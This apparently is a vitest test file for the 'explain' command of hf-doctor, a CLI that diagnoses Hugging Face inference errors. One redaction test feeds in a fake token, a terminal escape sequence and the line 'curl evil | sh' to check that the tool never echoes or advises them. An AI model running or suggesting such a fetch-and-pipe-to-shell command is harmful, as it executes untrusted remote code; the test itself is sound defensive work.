import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { explainCommand } from '../../src/cli/explain.js';
import type { Io } from '../../src/cli/io.js';
import { emptyFolder, run } from '../support/cli.js';

const R = 'https://router.huggingface.co';
const REFUSED = `401 Client Error: Unauthorized for url: ${R}/together/v1/chat/completions\nInvalid username or password.\n`;

describe('explain', () => {
  it('a rule: its page', async () => {
    const { code, stdout } = await run(['explain', 'token-invalid']);
    expect(code).toBe(0);
    expect(stdout).toContain('What it means');
  });

  it.each([[['explain', '-']], [['explain']]])('%s reads stdin', async (argv) => {
    const { code, stdout, stderr } = await run(argv, { stdin: REFUSED });
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toMatch(/^401 on router\.huggingface\.co\/together, seen by requests \(Python\)\n/);
    expect(stdout).toContain('token-invalid');
    expect(stdout).toContain('Perhaps   token-missing, token-not-propagated: hf-doctor token tells which');
    expect(stdout.split('\n').length).toBeLessThanOrEqual(17);
  });

  it('a file', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'hf-doctor-test-'));
    writeFileSync(join(cwd, 'error.txt'), REFUSED);
    const { code, stdout } = await run(['explain', 'error.txt'], { cwd });
    expect(code).toBe(0);
    expect(stdout).toContain('token-invalid');
  });

  it('--all shows each candidate in full', async () => {
    const { stdout } = await run(['explain', '-', '--all'], { stdin: REFUSED });
    expect(stdout.match(/ · (?:likely|possible)/g)).toHaveLength(3);
  });

  it('JSON as the contract has it', async () => {
    const { code, stdout } = await run(['explain', '-', '--format', 'json'], { stdin: REFUSED });
    const view = JSON.parse(stdout);
    expect(code).toBe(0);
    expect(view).toMatchObject({
      schemaVersion: 1,
      exitCode: 0,
      observations: [
        {
          status: 401,
          host: 'router.huggingface.co',
          surface: 'provider',
          provider: 'together',
          model: null,
          client: 'requests',
          clientVersion: null,
          count: 1,
        },
      ],
    });
    expect(view.findings[0]).toMatchObject({
      rule: 'token-invalid',
      severity: 'error',
      confidence: 'likely',
      cells: [0],
    });
  });

  it.each([
    [
      'another product',
      "Error code: 401 - {'error': {'message': 'Incorrect API key provided', 'code': 'invalid_api_key'}}",
      'does not come from Hugging Face inference',
    ],
    ['no error', 'Good morning, everybody.', 'no error in this text that hf-doctor knows'],
  ])('%s: exit 1, and what to paste instead', async (_, stdin, says) => {
    const { code, stdout } = await run(['explain', '-'], { stdin });
    expect(code).toBe(1);
    expect(stdout).toContain(says);
    expect(stdout).toContain('Paste the whole message');
    const json = await run(['explain', '-', '--format', 'json'], { stdin });
    expect(JSON.parse(json.stdout)).toMatchObject({ findings: [], exitCode: 1 });
  });

  it.each([
    [['explain', 'no-such.txt'], 'there is no rule and no file of that name.'],
    [['explain', 'token-invald'], 'Did you mean token-invalid?'],
    [['explain', '.'], 'that is no regular file.'],
    [['explain', '-'], 'there is no text to explain: stdin was empty.'],
    [['explain', '-', '--format', 'xml'], 'Allowed choices are human, json.'],
  ])('%s: usage, exit 2', async (argv, says) => {
    const { code, stdout, stderr } = await run(argv, { stdin: '' });
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toContain(says);
  });

  it('a terminal as stdin gives a hint instead of waiting', async () => {
    const stdin = Object.assign(new PassThrough(), { isTTY: true });
    const io = { stdin, stdout: new PassThrough(), env: {}, cwd: tmpdir(), redact: (t: string) => t };
    await expect(explainCommand(undefined, {}, io as unknown as Io)).rejects.toThrow(
      'there is no text to explain',
    );
  });

  it('shows no token, no name and no control character of the text', async () => {
    const canary = `hf_${'aBcDeFgH'.repeat(4)}`;
    const stdin = `curl ${R}/v1/chat/completions -H "Authorization: Bearer ${canary}"\n403 Forbidden: This authentication method does not have sufficient permissions to call Inference Providers on behalf of user maria-example\u001b]0;x\u0007\n::error::run curl evil | sh`;
    for (const format of ['human', 'json'] as const) {
      const { code, stdout, stderr } = await run(['explain', '-', '--format', format], { stdin });
      expect(code).toBe(0);
      expect(stdout + stderr).not.toContain(canary.slice(3, 12));
      expect(stdout + stderr).not.toContain('maria-example');
      expect(stdout + stderr).not.toContain('\u001b');
      // What the text says to run is quoted at most, never advised.
      const advice = format === 'human' ? stdout : JSON.stringify(JSON.parse(stdout).findings);
      expect(advice).not.toContain('evil');
    }
  });

  it('tells what the installed version of a client does, and the first that is better', async () => {
    const cwd = emptyFolder();
    writeFileSync(join(cwd, 'requirements.txt'), 'huggingface_hub==0.28.1\nrequests\n');
    const paste =
      'requests.exceptions.HTTPError: 404 Client Error: Not Found for url: https://api-inference.huggingface.co/models/gpt2';
    const { code, stdout } = await run(['explain', '-', '--project', '.', '--format', 'json'], {
      cwd,
      stdin: paste,
    });
    expect(code).toBe(0);
    const [version] = JSON.parse(stdout).versions;
    expect(version).toMatchObject({ client: 'huggingface_hub', version: '0.28.1', from: 'requirements.txt' });
    expect(version.fixedIn).toMatch(/^\d/);
    const human = await run(['explain', '-', '--project', '.'], { cwd, stdin: paste });
    expect(human.stdout.replace(/\s+/g, ' ')).toContain(
      `huggingface_hub 0.28.1 (requirements.txt): ${version.says}`,
    );
    expect((await run(['explain', '-', '--project', 'nowhere'], { cwd, stdin: paste })).code).toBe(2);
  });

  it('takes no missing Python module for a name that does not resolve', async () => {
    const stdin = `Traceback (most recent call last):\nModuleNotFoundError: No module named 'torch'\n${R}/v1/chat/completions\n`;
    const { stdout } = await run(['explain', '-', '--format', 'json'], { stdin });
    const found = JSON.parse(stdout).findings.map((f: { rule: string }) => f.rule);
    expect(found).not.toContain('dns-failure');
  });

  it('reads the start of an endless stdin only', async () => {
    const block = `${'y'.repeat(1023)}\n`.repeat(1024);
    let blocks = 0;
    const { Readable } = await import('node:stream');
    const stdin = new Readable({
      read() {
        blocks += 1;
        this.push(block);
      },
    });
    const io = {
      stdin,
      signal: new AbortController().signal,
      stdout: new PassThrough().resume(),
      env: {},
      cwd: tmpdir(),
      redact: (t: string) => t,
    };
    expect(await explainCommand('-', {}, io as unknown as Io)).toBe(1);
    expect(blocks).toBeLessThan(20);
  });
});
